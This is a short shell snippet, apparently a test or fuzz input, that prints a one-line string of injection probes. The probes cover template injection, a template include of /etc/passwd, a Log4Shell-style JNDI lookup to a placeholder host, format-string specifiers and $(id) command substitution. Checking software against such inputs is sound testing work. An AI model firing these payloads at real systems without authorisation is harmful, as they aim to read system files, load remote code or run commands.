# Tries to be a template. Safe: 0, failed.
printf '{{ 7*7 }} {%% include "/etc/passwd" %%} ${jndi:ldap://x} %%s %%n $(id) `id`\n'
